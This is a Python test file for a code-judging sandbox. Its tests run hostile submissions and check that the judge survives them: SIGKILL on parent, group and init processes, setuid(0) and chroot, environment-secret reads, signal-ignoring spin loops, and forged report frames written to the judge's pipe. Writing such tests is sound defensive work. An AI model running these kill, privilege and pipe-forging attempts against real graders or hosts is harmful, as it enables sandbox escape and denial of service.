    report = jailed(gelu, fresh, 'attempt("env", lambda: dict(os.environ))')
    assert outcomes(report)["env"].startswith("DONE")
    assert secret not in text_of(report)


def test_unguarded_kills(gelu: Exercise, pool: Pool, unguarded: Pool) -> None:
    # signal the zygote, every process, the process group; raise our own limits; become root again
    report = jailed(gelu, unguarded, """
        signal = imp("signal")
        resource = imp("resource")
        attempt("kill-parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
        attempt("kill-all", lambda: os.kill(-1, signal.SIGKILL))
        attempt("kill-group", lambda: os.killpg(0, signal.SIGKILL))
        attempt("kill-init", lambda: os.kill(1, signal.SIGKILL))
        attempt("raise-cpu", lambda: resource.setrlimit(resource.RLIMIT_CPU, (10**6, 10**6)))
        attempt("raise-as", lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)))
        attempt("setuid", lambda: os.setuid(0))
        attempt("chroot", lambda: os.chroot("/tmp"))
        attempt("unshare", lambda: imp("ctypes").CDLL(None, use_errno=True).unshare(0x10000000) or "ok")
        """)
    seen = outcomes(report)
    for label in ("kill-parent", "kill-all", "kill-group", "kill-init", "setuid", "chroot"):
        assert refused(seen[label]), (label, seen[label])
    assert seen["raise-cpu"] == seen["raise-as"] == "REFUSED ValueError"  # "not allowed to raise maximum limit"
    assert seen["unshare"] == "DONE -1"
    assert_judge_works(gelu, pool, "numpy")


def test_unguarded_ignoring_signals(fast: Exercise, pool: Pool, unguarded: Pool) -> None:
    # SIGXCPU and SIGTERM ignored, then spin: the hard CPU limit (SIGKILL) or the wall clock still ends it
    jailed(fast, unguarded, """
        signal = imp("signal")
        for sig in (signal.SIGXCPU, signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            signal.signal(sig, signal.SIG_IGN)
        while True:
            pass
        """, verdict="time_limit")


def test_unguarded_sleep(fast: Exercise, pool: Pool, unguarded: Pool) -> None:
    # time.sleep: no CPU used, so only the wall clock stops it
    jailed(fast, unguarded, 'imp("time").sleep(1000)', verdict="time_limit")


def test_unguarded_exits(gelu: Exercise, pool: Pool, unguarded: Pool) -> None:
    # os._exit at import, os.abort, a segfault: runtime errors, and the zygote carries on
    jailed(gelu, unguarded, "os._exit(0)", verdict="runtime_error")
    jailed(gelu, unguarded, "os._exit(70)", verdict="runtime_error")  # the code the child uses for its own failure
    jailed(gelu, unguarded, "os._exit(71)", verdict="runtime_error")
    jailed(gelu, unguarded, "os.abort()", verdict="runtime_error")
    jailed(gelu, unguarded, 'imp("ctypes").string_at(0)', verdict="runtime_error")
    deep = "deep = []\nfor _ in range(10**6):\n    deep = [deep]\nsys.setrecursionlimit(10**8)\nrepr(deep)"
    jailed(gelu, unguarded, deep, verdict="runtime_error")  # C recursion past the stack: SIGSEGV
    assert_judge_works(gelu, pool, "numpy")


def test_unguarded_result_pipe(gelu: Exercise, pool: Pool, unguarded: Pool) -> None:
    # write straight to the pipe the child reports on: garbage, then far too much
    find_pipe = src("""
        stat = imp("stat")
        def is_pipe(fd):
            try:
                return stat.S_ISFIFO(os.fstat(fd).st_mode)
            except OSError:
                return False
        pipe = [fd for fd in range(3, 64) if is_pipe(fd)][0]
        """)
    jailed(gelu, unguarded, find_pipe + 'os.write(pipe, b"\\xff" * 100)\n', verdict="runtime_error")
    # zeros read as a frame with an empty header: garbage, caught at once rather than after 16 MB
    jailed(gelu, unguarded, find_pipe + 'while True:\n    os.write(pipe, b"\\0" * 2**20)\n', verdict="runtime_error")
    assert_judge_works(gelu, pool, "numpy")


FORGED_FRAMES = {
    # a line number JSON reads as infinity: int() of it raised OverflowError in the judge
    "infinite-line-number": repr('{"event": "call", "id": "example-1", "ok": false, "error": {"type": "E", '
                                 '"message": "", "kind": "error", "frames": [[1e400, "gelu"]]}}'),
    # a header nested far deeper than the JSON parser's recursion limit: RecursionError in the judge
    "deep-json": "'[' * 100_000 + ']' * 100_000",
    # an array whose shape overflows every integer type, with no data
    "huge-shape": repr('{"event": "call", "id": "example-1", "ok": true, "value": {"t": "array", "dtype": "<f8", '
                       '"shape": [0, 18446744073709551616], "off": 0, "len": 0}}'),
    # "done" with no case answered, then garbage
    "done-then-garbage": repr('{"event": "done"}'),
}


@pytest.mark.parametrize("header", FORGED_FRAMES.values(), ids=FORGED_FRAMES.keys())
def test_unguarded_forged_frames(gelu: Exercise, pool: Pool, unguarded: Pool, header: str) -> None:
    # write the child's report frames by hand: the judge must read them as the submission's garbage, never crash
    body = src(f"""
        stat = imp("stat")
        struct = imp("struct")
        def is_pipe(fd):
            try:
                return stat.S_ISFIFO(os.fstat(fd).st_mode)
            except OSError:
                return False
        pipe = [fd for fd in range(3, 64) if is_pipe(fd)][0]
        head = ({header}).encode()
        os.write(pipe, struct.pack(">QQ", len(head), 0) + head + b"\\xff" * 64)
        os._exit(0)
        """)
    report = jailed(gelu, unguarded, body, verdict="runtime_error")
    assert report.passed == 0
    assert_judge_works(gelu, pool, "numpy")
